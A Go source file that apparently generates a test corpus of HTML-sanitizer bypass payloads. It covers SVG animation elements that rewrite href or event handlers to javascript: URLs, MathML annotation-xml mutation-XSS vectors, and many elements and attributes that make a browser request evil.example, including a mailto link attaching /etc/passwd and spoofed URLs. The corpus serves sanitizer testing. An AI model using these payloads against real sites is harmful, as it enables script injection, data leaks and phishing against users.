package payloads

import "strings"

// animations writes SVG animations. They change or create attributes after a
// sanitizer has seen the element: the address of a link, an event handler, or a
// copy of a hidden element.
func animations(w *writer) {
	targets := []string{"href", "xlink:href", "onclick", "onload", "style", "src", "fill", "to", "values"}
	for _, attribute := range targets {
		for _, element := range []string{
			"<set attributeName=ATTRIBUTE to=javascript:PROBE />", "<set attributeName=ATTRIBUTE to=PROBE onbegin=PROBE />",
			"<animate attributeName=ATTRIBUTE values=javascript:PROBE begin=0s dur=9s onbegin=PROBE />", "<animate attributeName=ATTRIBUTE from=x to=javascript:PROBE dur=1s fill=freeze />",
			"<animateTransform attributeName=ATTRIBUTE onbegin=PROBE dur=1s />", "<animateMotion attributeName=ATTRIBUTE onbegin=PROBE dur=1s path=M0,0 />",
		} {
			inside := strings.ReplaceAll(element, "ATTRIBUTE", attribute)
			w.addf(`<svg><a href="#x">%s<text y=20>x</text></a></svg>`, inside)
			w.addf(`<svg><a id=t href="?x"><text y=20>x</text></a>%s</svg>`, strings.Replace(inside, "attributeName", "href=#t attributeName", 1))
		}
	}
	for _, s := range []string{
		`<svg><use href="#x"/><g id=x onclick=PROBE><text y=20>x</text></g></svg>`, `<svg><use xlink:href="//evil.example/x.svg#x"/></svg>`, `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIvPg==#x"/></svg>`,
		`<svg><foreignObject width=99 height=99><img src=x: onerror=PROBE></foreignObject></svg>`, `<svg><foreignObject><iframe srcdoc="<script>PROBE</script>"></iframe></foreignObject></svg>`, `<svg><foreignObject><form action=javascript:PROBE><button>x</button></form></foreignObject></svg>`,
		`<svg><image href="//evil.example/x.png"/></svg>`, `<svg><feImage href="//evil.example/x.png"/></svg>`, `<svg><filter id=f><feImage xlink:href="//evil.example/x.png"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
		`<svg><rect width=9 height=9 fill="url(//evil.example/x.svg#g)"/></svg>`, `<svg><rect mask="url(//evil.example/x.svg#m)" clip-path="url(//evil.example/x.svg#c)"/></svg>`, `<svg><style>@import "//evil.example/x.css";</style></svg>`,
		`<svg><?xml-stylesheet href="//evil.example/x.css"?></svg>`, `<svg><!DOCTYPE svg [<!ENTITY x "<script>PROBE</script>">]>&x;</svg>`, `<svg><cursor xlink:href="//evil.example/x.cur"/></svg>`, `<svg><script href="//evil.example/x.js"/></svg>`,
		`<svg><tref xlink:href="//evil.example/x"/></svg>`, `<svg><mpath href="//evil.example/x.svg#p"/></svg>`, `<svg><textPath href="//evil.example/x.svg#p">x</textPath></svg>`, `<svg><pattern href="//evil.example/x.svg#p"/></svg>`,
		`<svg><view id=v onload=PROBE /></svg>`, `<svg><discard onbegin=PROBE begin=0s /></svg>`, `<svg><a target=_blank xlink:href=javascript:PROBE><rect width=99 height=99 /></a></svg>`, `<svg><linearGradient xlink:href="javascript:PROBE"/></svg>`,
	} {
		w.add(s)
		w.add("<p>" + s + "</p>")
		w.add("<figure>" + strings.Replace(s, "<svg>", `<svg viewBox="0 0 99 99" width=300 height=200 role=img><path d="M0 0L9 9"/>`, 1) + "</figure>")
	}
}

// formulas writes attacks through MathML: through its links, its annotations,
// and the elements in which it may contain HTML.
func formulas(w *writer) {
	for _, s := range []string{
		`<math><mi href=javascript:PROBE>x</mi></math>`, `<math xlink:href=javascript:PROBE><mi>x</mi></math>`, `<math><mrow href="javascript:PROBE"><mi>x</mi></mrow></math>`, `<math><maction actiontype=statusline#x xlink:href=javascript:PROBE>x</maction></math>`,
		`<math><maction actiontype=toggle><mi onclick=PROBE>x</mi><mi>y</mi></maction></math>`, `<math><mi onclick=PROBE>x</mi></math>`, `<math><mi style="background:url(//evil.example/x)">x</mi></math>`, `<math><mglyph src="//evil.example/x.png" alt=x /></math>`,
		`<math><mi mathbackground="url(//evil.example/x)">x</mi></math>`, `<math><mstyle background="//evil.example/x"><mi>x</mi></mstyle></math>`, `<math definitionURL=javascript:PROBE><mi>x</mi></math>`, `<math><mspace width="99999999px" height="99999999px"/></math>`,
		`<math><mpadded voffset="-9999px" lspace="-9999px"><mi>x</mi></mpadded></math>`, `<math><mi fontsize=99999 mathsize="9999em">x</mi></math>`, `<math><none/><mprescripts/></math>`, `<math><mi id=reader class=bar>x</mi></math>`,
	} {
		w.add(s)
		w.add("<p>" + s)
	}
	annotations := []string{"annotation-xml encoding=text/html", "annotation-xml encoding=TEXT/HTML", "annotation-xml encoding='text/html '", "annotation-xml encoding=application/xhtml+xml", "annotation-xml", "annotation encoding=text/html", "annotation-xml encoding=image/svg+xml"}
	for _, annotation := range annotations {
		for _, core := range []string{
			img, "<script>PROBE</script>", "<svg onload=PROBE></svg>", "<style><a title='</style>" + img + "'>", "<svg><style><a title='</style></svg>" + img + "'>", "<iframe srcdoc='<script>PROBE</script>'></iframe>",
			"<a href=javascript:PROBE>x</a>", "<p><math><mtext><table><mglyph><style><!--</style>" + img + "-->", "<title><a title='</title>" + img + "'>", "<noscript><a title='</noscript>" + img + "'>",
		} {
			w.addf("<math><semantics><mi>x</mi><%s>%s</semantics></math>", annotation, core)
		}
	}
}

// features writes attributes and elements, including new ones, that make a
// browser send requests, move the focus, open a layer or name a window.
func features(w *writer) {
	for _, attribute := range []string{
		"attributionsrc=//evil.example/x", "attributionsrc", "ping=//evil.example/x", "browsingtopics", "sharedstoragewritable", "fetchpriority=high", "crossorigin=use-credentials", "referrerpolicy=unsafe-url", "elementtiming=x", "importance=high",
		"popover=manual", "popovertarget=reader", "command=show-modal commandfor=reader", "interestfor=reader", "autofocus tabindex=0", "accesskey=r", "tabindex=99", "contenteditable", "draggable=true", "inert", "hidden=until-found",
		"nonce=x", "is=x-element", "slot=x", "part=x", "exportparts=x", "itemprop=x", "target=reader", "target=_parent rel=opener", "download", "form=f", "name=opener", "name=closed", "name=top", "name=reader", "id=reader", "id=p-reader",
		"class='bar tools note'", "role=alertdialog aria-modal=true", "role=application", "aria-hidden=true", "aria-live=assertive aria-label=x", "data-state=failed", "data-embed=javascript:PROBE", "data-lang='x onload=PROBE'", "lang='x\" onclick=PROBE y=\"'",
		"dir=rtl", "translate=no", "spellcheck", "virtualkeyboardpolicy=manual", "writingsuggestions=true", "anchor=reader", "shadowrootmode=open", "onbeforematch=PROBE", "oncommand=PROBE", "headingoffset=9", "focusgroup", "virtual", "credentialless", "allow=*", "csp=x",
	} {
		for _, element := range []string{"<a href=//example.org/x ATTRIBUTE>x</a>", "<img src=/p.png width=99 height=99 ATTRIBUTE>", "<p ATTRIBUTE>x</p>", "<div ATTRIBUTE>x</div>", "<details open ATTRIBUTE><summary>x</summary>y</details>", "<td ATTRIBUTE>x", "<pre ATTRIBUTE>x</pre>"} {
			w.add(strings.Replace(element, "ATTRIBUTE", attribute, 1))
		}
	}
	for _, s := range []string{
		`<link rel=preconnect href=//evil.example>`, `<link rel=prefetch href=//evil.example/x>`, `<link rel=modulepreload href=//evil.example/x.js>`, `<link rel=expect href=#x blocking=render>`, `<link rel=compression-dictionary href=//evil.example/x>`, `<link rel=stylesheet imagesrcset="//evil.example/x 1x">`,
		`<link rel=preload as=image imagesrcset="//evil.example/x 1x">`, `<link rel=alternate type=application/rss+xml href=//evil.example>`, `<link rel=payment-method-manifest href=//evil.example>`, `<link rel=terms-of-service href=//evil.example>`, `<link rel=pingback href=//evil.example>`,
		`<meta http-equiv=origin-trial content=x>`, `<meta http-equiv=accept-ch content=ua>`, `<meta http-equiv=delegate-ch content="ua //evil.example">`, `<meta http-equiv=speculation-rules content='{"prefetch":[{"urls":["//evil.example"]}]}'>`, `<meta name=viewport content=width=1>`, `<meta name=color-scheme content=dark>`,
		`<meta name=monetization content=$evil.example>`, `<script type=webbundle>{"source":"//evil.example"}</script>`, `<fencedframe src=//evil.example></fencedframe>`, `<controlledframe src=//evil.example></controlledframe>`, `<webview src=//evil.example></webview>`,
		`<permission type=geolocation></permission>`, `<geolocation></geolocation>`, `<selectedcontent></selectedcontent>`, `<select><button><selectedcontent></selectedcontent></button><option>x</select>`, `<search>x</search>`, `<menu><li>x</menu>`, `<dialog open closedby=any>x</dialog>`,
		`<video src=//evil.example/x.mp4 poster=//evil.example/x.png autoplay preload></video>`, `<audio src=//evil.example/x.mp3 autoplay></audio>`, `<picture><source srcset=//evil.example/x.png media="(min-width:1px)"><img></picture>`, `<input type=image src=//evil.example/x.png>`, `<frame src=//evil.example>`,
		`<applet archive=//evil.example/x.jar></applet>`, `<object classid=clsid:x codebase=//evil.example></object>`, `<embed src=//evil.example/x.swf allowscriptaccess=always>`, `<xml src=//evil.example></xml>`, `<bgsound src=//evil.example/x.wav>`, `<basefont color=red>`, `<layer src=//evil.example></layer>`,
		`<img src=//evil.example/x.png width=1 height=1>`, `<img src=//evil.example/x.png style="display:none">`, `<img dynsrc=//evil.example/x lowsrc=//evil.example/y>`, `<td background=//evil.example/x>x`, `<table rowspan=65534><td colspan=1000 rowspan=65534>x</table>`, `<img src=/p.png width=99999999 height=99999999>`,
		`<details name=x open><summary>x</summary>y</details><details name=x open>z</details>`, `<p id=__proto__>x</p><a href=#__proto__>x</a>`, `<a id=constructor href=#constructor>x</a>`, `<p id=reader>x</p><a href=#reader>x</a>`, "<a href=https://example.org/\u202egpj.exe>\u202egpj.exe</a>", "<p>\u2066\u202e\u2067x</p>",
		`<a href=https://user:password@evil.example/>x</a>`, `<a href=https://example.org@evil.example/>x</a>`, `<a href=https://xn--pple-43d.com/>x</a>`, `<a href=https://evil.example:65536/>x</a>`, `<a href=//[::1]:22/>x</a>`, `<a href=tel:*%2306%23>x</a>`, `<a href="mailto:a@b?body=x&attach=/etc/passwd">x</a>`, `<a href=sms:1>x</a>`,
	} {
		w.add(s)
		w.add("<div>" + s + "</div>")
		w.add("<noscript>" + s + "</noscript>")
	}
}
